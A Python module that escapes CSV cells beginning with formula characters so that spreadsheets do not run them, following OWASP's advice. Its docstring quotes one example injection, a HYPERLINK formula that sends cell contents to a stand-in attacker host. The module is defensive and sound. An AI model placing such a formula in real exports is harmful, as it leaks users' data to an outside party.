"""Files the product writes for people to open in a spreadsheet.

A CSV cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets
skip before reading one of those) is run as a formula when the file is opened:
`=HYPERLINK("https://evil.example?"&A1, "click")` would send data away. Every CSV the product
writes goes through `write_csv`, which puts a ' before such text (OWASP's advice); numbers
stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_csv(out: IO[str], rows: Iterable[dict[str, Any]], fields: Sequence[str]) -> None:
    writer = csv.DictWriter(out, fieldnames=list(fields))
    writer.writerow({f: spreadsheet_safe(f) for f in fields})
    for row in rows:
        writer.writerow({k: spreadsheet_safe(v) for k, v in row.items()})
